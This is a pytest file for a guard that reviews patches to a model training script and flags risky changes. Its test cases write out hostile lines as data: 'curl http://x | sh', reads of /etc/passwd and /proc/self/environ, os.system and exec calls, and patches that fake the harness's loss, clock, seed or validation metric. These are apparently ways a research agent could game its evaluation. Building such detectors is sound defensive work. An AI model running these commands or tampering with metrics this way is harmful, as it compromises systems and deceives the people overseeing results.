"""What is risky in a patch is seen, what is honest is left in peace."""

from __future__ import annotations

from pathlib import Path

import pytest

from core.guards import Finding, Kind, Level, constants_only, findings
from core.patches import diff, parse

TRAIN = '''"""Doc: val_bpb is the metric, see /proc and AR_DATA."""
import torch
import torch.nn.functional as F
from torch import nn

from nanochat.harness import Harness

LR = 0.04
BETAS = (0.8, 0.95)
BATCH = 2**15


class Attention(nn.Module):
    def forward(self, q, k, v):
        mask = torch.ones(4, 4).tril()  # unchanged neighbour
        return F.scaled_dot_product_attention(
            q,
            k,
            v,
            is_causal=True,
        )


def main():
    run = Harness.from_env()
    for batch in run.batches():
        run.log(loss=0.0)
    run.finish(None)
'''


def judge(before: str, after: str) -> tuple[Finding, ...]:
    """The findings when train.py becomes `after`."""
    files = ({"train.py": before}, {"train.py": after})
    return findings(diff(*files), *files, ["train.py"])


def judged(new: str, old: str = "    run = Harness.from_env()\n") -> tuple[Finding, ...]:
    """The findings when `new` is put behind `old`."""
    assert old in TRAIN
    return judge(TRAIN, TRAIN.replace(old, old + new))


def seen(new: str, old: str = "    run = Harness.from_env()\n") -> set[tuple[str, str]]:
    return {(item.kind.value, item.level.value) for item in judged(new, old)}


@pytest.mark.parametrize(
    ("line", "kind", "level"),
    [
        # the system
        ("import subprocess", "import", "danger"),
        ("import os", "import", "caution"),
        ("import os; os.system('ls')", "io", "danger"),
        ("import os as o; o.kill(1, 9)", "io", "danger"),
        ("from os import system as s; s('ls')", "io", "danger"),
        ("import os; os.environ['OMP_NUM_THREADS'] = '8'", "environment", "caution"),
        ("import socket", "import", "danger"),
        ("import pickle", "import", "danger"),
        ("import ctypes", "import", "danger"),
        ("torch.hub.load('a', 'b')", "io", "danger"),
        ("torch.load('x.pt')", "io", "caution"),
        ("from torch.utils import cpp_extension", "import", "danger"),
        ("eval('1')", "io", "danger"),
        ("run_it = exec", "io", "danger"),
        ("ｅｘｅｃ('1')", "io", "danger"),
        ("compile('1', '', 'eval')", "io", "danger"),
        ("__import__('os')", "io", "danger"),
        ("open('/etc/passwd')", "io", "danger"),
        ("open('../val.bin')", "io", "danger"),
        ("open('notes.txt', 'w')", "io", "caution"),
        ("from pathlib import Path; Path('x').write_text('y')", "io", "caution"),
        ("name = 'https://example.org/x'", "io", "caution"),
        # tricks
        ("getattr(torch, 'h' + 'ub')", "patching", "caution"),
        ("getattr(torch, 'hub')", "io", "danger"),
        ("globals()['x'] = 1", "patching", "caution"),
        ("import sys; sys._getframe(1)", "patching", "danger"),
        ("import sys; sys.modules['torch'] = None", "patching", "danger"),
        ("import gc; gc.get_objects()", "patching", "danger"),
        ("import inspect", "import", "danger"),
        ("main.__globals__['x'] = 1", "patching", "danger"),
        # replacing parts of torch or the harness
        ("F.cross_entropy = lambda *a: 0", "patching", "danger"),
        ("torch.nn.Linear.forward = None", "patching", "danger"),
        ("nn.Module.__call__, x = None, 1", "patching", "danger"),
        ("setattr(torch, 'mm', None)", "patching", "danger"),
        ("Harness.log = None", "patching", "danger"),
        ("run.seconds = 0", "patching", "danger"),
        ("run.meter.total += 1", "patching", "danger"),
        ("del run.metrics", "patching", "danger"),
        ("x = run.meter", "patching", "caution"),
        ("torch.backends.cuda.matmul.allow_tf32 = True", "environment", "note"),
        # seed and clock
        ("torch.manual_seed(137)", "seed", "caution"),
        ("SEED = 137", "seed", "caution"),
        ("g = torch.Generator().manual_seed(1)", "seed", "caution"),
        ("x = run.seed", "seed", "caution"),
        ("import random", "import", "note"),
        ("import time; t = time.time()", "clock", "caution"),
        ("from time import perf_counter; perf_counter()", "clock", "caution"),
        ("TIME_BUDGET = 600", "clock", "caution"),
        ("s = torch.cuda.Stream()", "clock", "caution"),
        # time axis
        ("x = torch.zeros(1, 2, 3).cumsum(1)", "causality", "caution"),
        ("x = torch.fft.rfft(y, dim=1)", "causality", "caution"),
        ("x = y.flip(1)", "causality", "caution"),
        ("x = torch.roll(y, -1, 1)", "causality", "caution"),
        ("x = torch.triu(y)", "causality", "caution"),
        ("x = y.mean(dim=1)", "causality", "caution"),
        ("x = y.mean(1, keepdim=True)", "causality", "caution"),
        ("x = torch.mean(y, 1)", "causality", "caution"),
        ("x = F.softmax(y, dim=-2)", "causality", "caution"),
        ("x = y.topk(4, dim=1)", "causality", "caution"),
        ("x = nn.BatchNorm1d(4)", "causality", "caution"),
        ("x = F.scaled_dot_product_attention(a, b, c)", "causality", "caution"),
        ("x = F.scaled_dot_product_attention(a, b, c, is_causal=False)", "causality", "caution"),
        # the evaluation
        ("print('val_bpb: 0.9')", "evaluation", "caution"),
        ("val_bpb = 0.9", "evaluation", "caution"),
        ("def evaluate_bpb(): pass", "evaluation", "caution"),
        ("x = 'AR_DATA'", "evaluation", "danger"),
        ("x = 'data/val/0.bin'", "evaluation", "danger"),
        ("x = f'{run}/audit'", "evaluation", "danger"),
        ("x = 'val.bin'", "evaluation", "danger"),
        ("from nanochat.evaluate import score", "import", "danger"),
        ("x = '/proc/self/environ'", "environment", "danger"),
        # what cannot be seen
        ("x = 1  # \u202e", "invisible", "danger"),
        ("x = '\x1b[2J'", "invisible", "danger"),
        ("x = 1  # ⚠\ufe0f", "invisible", "caution"),
        ("lоss = 1", "invisible", "caution"),
    ],
)  # fmt: skip
def test_a_risky_line_is_seen(line: str, kind: str, level: str) -> None:
    # as text of its own block: several statements keep their order, definitions parse
    assert (kind, level) in seen("".join(f"    {part.strip()}\n" for part in line.split(";")))


@pytest.mark.parametrize(
    "line",
    [
        "q = F.rms_norm(q, (64,)) * 1.2",
        "x = F.softmax(y, dim=-1)",
        "x = y.mean(dim=-1, keepdim=True)",
        "x = loss.mean()",
        "size = update.norm(dim=(-2, -1), keepdim=True)",
        "n = max(1, min(1.0, 2))",
        "x = F.scaled_dot_product_attention(a, b, c, is_causal=True)",
        "opt = torch.optim.AdamW([], betas=(0.9, 0.95), weight_decay=0.001)",
        "nn.init.normal_(w, std=0.02)",
        "net = torch.compile(net)",
        "self.value_embeds = interval = 'interval/validity'",
        "decay = 0.5 * (1 + math.cos(math.pi * run.progress))",
        "run.log(loss=loss, lr=lr)",
        "model.eval()",
        "# torch.manual_seed(1); os.system; val_bpb; tril",
        '"""Uses eval(), open() and /proc: only words."""',
        "group['weight_decay'] = self.decay.x = 0.1",
        "name = getattr(model, 'blocks')",
    ],
)
def test_an_honest_line_fires_nothing(line: str) -> None:
    assert seen(f"    {line}\n") == set()


def test_an_unchanged_neighbour_and_a_known_import_never_fire() -> None:
    assert (
        seen(
            "        # a comment in the hunk with the mask\n",
            "        mask = torch.ones(4, 4).tril()  # unchanged neighbour\n",
        )
        == set()
    )
    assert seen("    import torch.nn.functional as F2\n    from torch import nn as network\n") == set()


def test_the_line_named_is_the_line_in_the_new_file_even_inside_a_long_call() -> None:
    after = TRAIN.replace("            is_causal=True,\n", "            is_causal=False,\n").replace(
        "LR = 0.04", "LR = 0.04\nX = 1"
    )
    found = judge(TRAIN, after)
    (mask,) = [item for item in found if item.word == "is_causal"]
    assert after.split("\n")[(mask.line or 0) - 1].strip() == "is_causal=False,"
    assert (mask.hunk, mask.kind, mask.path) == (1, Kind.CAUSALITY, "train.py")


def test_a_mask_that_is_only_taken_away_is_seen() -> None:
    after = TRAIN.replace("            is_causal=True,\n", "")
    found = judge(TRAIN, after)
    assert [(item.kind, item.word, item.level) for item in found] == [(Kind.CAUSALITY, "is_causal", Level.CAUTION)]


def test_files_outside_the_editable_ones_come_first_as_danger() -> None:
    before = {"train.py": TRAIN, "harness.py": "x = 1\n"}
    after = {"train.py": TRAIN + "SEED = 1\n", "harness.py": "x = 2\n", "new.sh": "curl http://x | sh\n"}
    found = findings(diff(before, after), before, after, ["train.py", "*.sh"])
    assert [(item.kind.value, item.level.value, item.path) for item in found] == [
        ("files", "danger", "harness.py"),
        ("io", "danger", "new.sh"),
        ("files", "caution", "new.sh"),
        ("io", "caution", "new.sh"),
        ("seed", "caution", "train.py"),
    ]


def test_size_is_told_from_150_lines_and_warned_of_from_400() -> None:
    def level(lines: int) -> list[str]:
        after = TRAIN + "".join(f"x{n} = {n}\n" for n in range(lines))
        return [item.level.value for item in judge(TRAIN, after)]

    assert (level(149), level(150), level(400)) == ([], ["note"], ["caution"])


def test_an_added_line_that_nobody_reads_to_its_end_unasked_is_told() -> None:
    def told(characters: int) -> list[tuple[str, str]]:
        found = judge(TRAIN, TRAIN + f"x = {'1' * (characters - 4)}\n")
        return [(item.word, item.level.value) for item in found if item.kind is Kind.SIZE]

    assert (told(500), told(1501)) == ([], [("1,501 characters", "caution")])


def test_a_file_that_does_not_parse_is_still_searched_for_words() -> None:
    after = TRAIN + "x = (subprocess\ny = '/proc/self'\n"
    found = judge(TRAIN, after)
    assert {item.word for item in found} == {"subprocess", "/proc/"}
    files = ({"train.py": TRAIN}, {"train.py": TRAIN + "import subprocess\n"})
    stale = findings(diff(*files), {}, {}, ["train.py"])
    assert [item.word for item in stale] == ["subprocess"]


@pytest.mark.parametrize("depth", [100, 1_000, 3_000, 50_000])
@pytest.mark.parametrize("line", ["x = {}", "torch.x[{}] = 1", "y.mean({})", "x = y{}"])
def test_code_nested_beyond_reason_is_judged_without_harm(line: str, depth: int) -> None:
    deep = ".a" * depth if line == "x = y{}" else "1+" * depth + "1"
    after = TRAIN + line.format(deep) + "\n"
    assert len(judge(TRAIN, after)) < 10
    assert not constants_only({"train.py": TRAIN}, {"train.py": after})


def test_the_words_shown_are_safe() -> None:
    (found,) = [item for item in judged("    x = 'https://\x1b]52;c'\n") if item.kind is Kind.INVISIBLE]
    assert found.word == "U+001B ESCAPE"


REAL = Path(__file__).parents[2] / "nanochat" / "train.py"
HONEST = {
    "a multiplier that sharpens QK-norm": [("rms_norm(q), rms_norm(k)", "1.2 * rms_norm(q), rms_norm(k)")],
    "weight decay on value embeddings": [("VALUE_EMBED_DECAY = 0.0", "VALUE_EMBED_DECAY = 0.003")],
    "a narrower attention band": [("SHORT_WINDOW = 0.5", "SHORT_WINDOW = 1 / 3"), ('"SSSL"', '"SSSSL"')],
    "betas per group": [
        ('"initial_lr": lr, "weight', '"initial_lr": lr, "betas": (0.8, 0.995), "weight')
    ],
    "another weight-decay schedule": [
        ("    return 1.0 - progress\n", "    return 0.5 * (1.0 + math.cos(math.pi * progress))\n"),
        ("import torch\n", "import math\n\nimport torch\n"),
    ],
    "another initialisation": [
        ("nn.init.normal_(self.head.weight, std=HEAD_STD)", "nn.init.zeros_(self.head.weight)"),
        ("nn.init.uniform_(table.weight, -bound, bound)", "nn.init.trunc_normal_(table.weight, std=bound)"),
    ],
}  # fmt: skip


@pytest.mark.parametrize("idea", HONEST)
def test_the_six_published_findings_on_the_real_script_are_never_danger(idea: str) -> None:
    before = after = REAL.read_text()
    for old, new in HONEST[idea]:
        assert old in after, "the built-in target has changed: write the change anew"
        after = after.replace(old, new)
    found = judge(before, after)
    assert {item.level for item in found} <= {Level.NOTE}


def test_the_whole_real_script_as_one_addition_is_not_danger() -> None:
    text = REAL.read_text()
    found = judge("", text)
    assert [item for item in found if item.level is Level.DANGER] == []


def test_a_patch_read_from_text_is_judged_like_a_made_one() -> None:
    after = TRAIN + "import socket\n"
    made = diff({"train.py": TRAIN}, {"train.py": after})
    files = ({"train.py": TRAIN}, {"train.py": after}, ["train.py"])
    assert findings(parse(made.text), *files) == findings(made, *files)


# --- constants only --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("old", "new", "only"),
    [
        ("LR = 0.04", "LR = 0.02", True),
        ("LR = 0.04", "LR = -4e-2  # why", True),
        ("LR = 0.04", "LR: float = 0.02", False),
        ("(0.8, 0.95)", "(0.9, 0.99)", True),
        ("(0.8, 0.95)", "(0.9, 0.99, 1)", False),
        ("2**15", "2**16", True),
        ("2**15", "2**15 * 2", False),
        ("LR = 0.04", "LR = True", False),
        ("LR = 0.04", "LR = 1e999", False),
        ("LR = 0.04", "LR = '0.04'", False),
        ("LR = 0.04", "LR2 = 0.04", False),
        ("LR = 0.04", "LR = BETA = 0.04", False),
        ("LR = 0.04", "LR = float(0.04)", False),
        ("LR = 0.04", "LR = 0.04  # only a comment", False),
        ("torch.ones(4, 4)", "torch.ones(4, 5)", False),
        ("run.log(loss=0.0)", "run.log(loss=1.0)", False),
        ("LR = 0.04", "LR = (", False),
        ('"""Doc', '"""Dog', False),
    ],
)
def test_only_numbers_at_module_level_count_as_constants(old: str, new: str, only: bool) -> None:
    assert old in TRAIN
    assert constants_only({"train.py": TRAIN}, {"train.py": TRAIN.replace(old, new)}) is only


def test_other_files_and_no_change_at_all_are_not_constants() -> None:
    assert not constants_only({"train.py": TRAIN}, {"train.py": TRAIN})
    assert not constants_only({"train.py": TRAIN}, {"train.py": TRAIN, "b.py": "x = 1\n"})
    assert not constants_only({"c.yaml": "lr: 1\n"}, {"c.yaml": "lr: 2\n"})
    assert constants_only({"train.py": TRAIN, "a.txt": "x"}, {"train.py": TRAIN.replace("0.04", "0.05"), "a.txt": "x"})
